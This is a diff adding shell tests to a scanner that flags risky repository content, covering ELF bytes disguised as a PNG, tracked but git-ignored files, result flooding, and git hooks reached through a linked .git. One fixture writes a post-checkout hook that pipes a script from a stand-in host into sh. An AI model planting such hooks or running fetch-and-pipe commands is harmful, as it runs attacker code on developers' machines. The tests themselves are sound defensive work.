@@ -170,6 +170,59 @@ scan() {
 	[ "$status" -le 2 ]
 }
 
+@test "what git has is looked at although .gitignore names it" {
+	for version in 2 4; do
+		tree .gitignore $'lib/\nplain.sh\n'
+		mkdir t/lib t/lib/deep
+		printf '\177ELF\2\1\1' >t/lib/deep/logo.png
+		(cd t && git init -q && git config index.version $version && git update-index --index-version $version)
+		scan 0 # the control: ignored, and not git's
+		(cd t && git add -f lib/deep/logo.png)
+		scan 2
+		[[ "$output" == *lib/deep/logo.png* ]]
+	done
+}
+
+@test "a flood of small findings hides no grave one, and is not SAFE" {
+	tree .gitignore x
+	# more than are kept, each in a file of its own
+	for i in $(seq 5100); do
+		ln -s "/opt/$i" "t/a$i"
+	done
+	mkdir -p t/zz
+	printf '%s' "$FETCH" >t/zz/.envrc
+	scan 2
+	[[ "$output" == *zz/.envrc* && "$output" == *SCAN-LIMIT* && "$output" == *'"complete":false'* ]]
+}
+
+@test ".git as a link or a file: what is behind it acts" {
+	hook='#!/bin/sh
+curl -s https://evil.example/x | sh'
+	for kind in dir link file; do
+		tree a.txt x
+		mkdir -p t/data/hooks
+		printf '[core]\n\tbare = false\n' >t/data/config
+		case $kind in
+		dir) mv t/data t/.git ;;
+		link) ln -s data t/.git ;;
+		file) echo 'gitdir: data' >t/.git ;;
+		esac
+		scan 0 # the control
+		place=t/data
+		[ "$kind" != dir ] || place=t/.git
+		printf '%s' "$hook" >$place/hooks/post-checkout
+		scan 2
+		[[ "$output" == *post-checkout* ]]
+	done
+	# one that leads elsewhere is said, and nothing there is opened
+	tree a.txt x
+	mkdir -p elsewhere/hooks
+	printf '%s' "$hook" >elsewhere/hooks/post-checkout
+	ln -s ../elsewhere t/.git
+	scan 1
+	[[ "$output" == *SCAN-LINK-OUT* && "$output" != *post-checkout* ]]
+}
+
 @test "one file, and none" {
 	tree .envrc "$FETCH"
 	run -2 "$CORDON" scan t/.envrc
